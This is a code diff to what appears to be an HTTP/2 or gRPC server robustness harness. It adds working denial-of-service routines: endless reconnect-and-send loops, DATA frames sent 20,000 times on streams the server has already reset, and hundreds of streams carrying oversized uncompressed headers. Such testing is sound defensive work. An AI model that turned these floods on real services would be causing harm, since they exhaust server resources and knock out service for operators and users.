@@ -118,6 +118,29 @@ def flood(make: Callable[[RawClient, int], Callable[[int], bytes]], *, call: boo
     return run
 
 
+def pour(make: Callable[[RawClient], bytes]) -> Attack:
+    """Connect again and again, and send the same again and again, as much at once as the kernel takes."""
+
+    def run(target: Target) -> None:
+        while target.goes_on:
+            try:
+                with target.connect() as client:
+                    piece = make(client)
+                    while target.goes_on and target.send(client, piece):
+                        pass
+            except (OSError, GoneError):
+                continue
+
+    return run
+
+
+def refused(client: RawClient) -> int:
+    """Make a call that is answered before its request has ended; give its stream."""
+    stream = client.open(call_fields("/nobody.Knows/This"))
+    client.read_until(RST_STREAM, stream)
+    return stream
+
+
 def request(client: RawClient, stream: int, *, end: bool = False) -> bytes:
     block = client.encoder.encode(call_fields(NEXT))
     return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)
@@ -145,6 +168,21 @@ def half_sent(target: Target) -> None:
         for stream in range(1, 800, 2):
             calls = request(client, stream) + frame(DATA, 0, stream, piece) + frame(DATA, 0, stream, piece[5:]) * 2
             if not target.goes_on or not target.send(client, calls):
+                break
+    target.enough.wait(PATIENCE)
+    for client in clients:
+        client.socket.close()
+
+
+def large_heads(target: Target) -> None:
+    """Hundreds of streams on each connection whose heads are as large as they may be, each another one."""
+    clients = [target.connect() for _ in range(10)]
+    for each, client in enumerate(clients):
+        client.socket.settimeout(2.0)
+        for stream in range(1, 1800, 2):
+            fields = call_fields(STREAM, ("x-large", f"{each}-{stream}-" + "v" * 15_000))
+            head = frame(HEADERS, END_HEADERS, stream, client.encoder.encode(fields, huffman=False))
+            if not target.goes_on or not target.send(client, head):
                 break
     target.enough.wait(PATIENCE)
     for client in clients:
@@ -255,6 +293,10 @@ ATTACKS: dict[str, Attack] = {
     "PING": flood(lambda c, s: lambda n: frame(PING, 0, 0, b"12345678")),
     "PRIORITY": flood(lambda c, s: lambda n: frame(PRIORITY, 0, 2 * n + 1, b"\0\0\0\0\1")),
     "empty DATA": flood(lambda c, s: lambda n: frame(DATA, 0, s), call=True),
+    "empty DATA of a call that is over": pour(lambda c: frame(DATA, 0, refused(c)) * 20_000),
+    "octets of a call that is over": pour(lambda c: frame(DATA, 0, refused(c), b"x") * 20_000),
+    "octets of a stream": pour(lambda c: frame(DATA, 0, c.open(call_fields(STREAM)), b"\0") * 20_000),
+    "large heads": large_heads,
     "varints without end": flood(
         lambda c, s: lambda n: request(c, 2 * n + 1) + frame(DATA, END_STREAM, 2 * n + 1, prefixed(b"\xff" * 5000))
     ),
